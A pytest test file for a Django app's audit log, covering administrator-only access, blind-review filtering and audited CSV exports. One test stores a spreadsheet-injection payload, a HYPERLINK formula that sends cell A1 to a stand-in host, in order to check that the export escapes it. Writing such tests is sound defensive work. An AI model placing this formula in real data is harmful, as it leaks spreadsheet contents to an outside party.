import csv
import io

import pytest

from curation.reviews.services import review_record, review_recuse
from tests.curation.helpers import NO_UNDER_13, YES, make_item

pytestmark = pytest.mark.django_db


def export(client, query=""):
    response = client.get(f"/audit/export.csv{query}")
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_administrators_filter_the_audit_log(personas, client):
    make_item(personas.investigator, external_reference="X")
    client.force_login(personas.admin)
    page = client.get("/audit/?action=submission.").content.decode()
    assert "submission.create" in page and "role.grant" not in page
    assert "submission.create" not in client.get("/audit/?action=role.").content.decode()
    assert client.get("/audit/?since=yesterday").status_code == 400


@pytest.mark.parametrize("user", ["investigator", "reviewer", "curator", "partner"])
def test_only_administrators_read_the_audit_log(personas, client, user):
    client.force_login(getattr(personas, user))
    assert client.get("/audit/").status_code == 403
    assert client.get("/audit/export.csv").status_code == 403


def test_the_export_respects_blind_review(personas, client):
    item = make_item(personas.investigator)
    review_record(actor=personas.reviewers[0], item=item, answers=dict(YES), comment="c")
    review_recuse(actor=personas.reviewers[1], item=item, reason="other")
    client.force_login(personas.admin)
    rows = export(client, f"?object_id={item.pk}")
    assert [r["action"] for r in rows] == ["submission.create"]  # no trace of the review or the recusal
    page = client.get(f"/audit/?object_id={item.pk}").content.decode()
    assert "review." not in page and "reviewer1" not in page
    review_record(actor=personas.reviewers[2], item=item, answers=dict(NO_UNDER_13))
    rows = export(client, f"?object_id={item.pk}")
    assert [r["action"] for r in rows] == ["submission.reject", "review.record", "review.recuse", "review.record",
                                           "submission.create"]
    assert rows[1]["actor"] == "reviewer3" and '"verdict": "disagree"' in rows[1]["details"]


def test_exports_are_audited_and_show_no_sequence_or_hashes(personas, client):
    client.force_login(personas.admin)
    rows = export(client)
    assert set(rows[0]) == {"created_at", "actor", "organisation", "action", "object_type", "object_id", "details"}
    from core.models import AuditEntry

    assert AuditEntry.objects.filter(action="audit.export", actor=personas.admin).count() == 1


def test_the_export_writes_formulas_as_text(personas, client):
    """An organisation named like a formula (`=HYPERLINK(...)`) is a link that leaks data when the
    export is opened in a spreadsheet; usernames may start with `@` or `-`. Such cells start with
    `'` in the export (issue 11 item 8); the rest of the row is as it was."""
    from accounts import services as accounts
    from core.actors import SYSTEM

    formula = '=HYPERLINK("http://x.example/?"&A1,"open")'
    org = personas.admin.organisation
    accounts.organisation_update(actor=personas.admin, organisation=org, name=formula, country=org.country,
                                 kind=org.kind)
    user = accounts.user_create(actor=SYSTEM, username="@sum", email="s@example.org",
                                organisation=org, roles=[])
    accounts.user_email_digest_set(actor=user, user=user, on=False)
    client.force_login(personas.admin)
    rows = export(client, "?action=organisation.update")
    assert [row["organisation"] for row in rows] == ["'" + formula]
    assert formula.replace('"', '\\"') in rows[0]["details"] and rows[0]["details"].startswith("{")
    rows = export(client, f"?object_id={user.pk}&action=user.email_digest")
    assert [(row["actor"], row["organisation"]) for row in rows] == [("'@sum", "'" + formula)]


@pytest.mark.parametrize("value, shown", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("plain", "plain"), ("a=b", "a=b"), ("", ""), (None, ""), (42, "42"),
])
def test_formula_cells_are_prefixed_and_others_kept(value, shown):
    from core.spreadsheet import cell

    assert cell(value) == shown
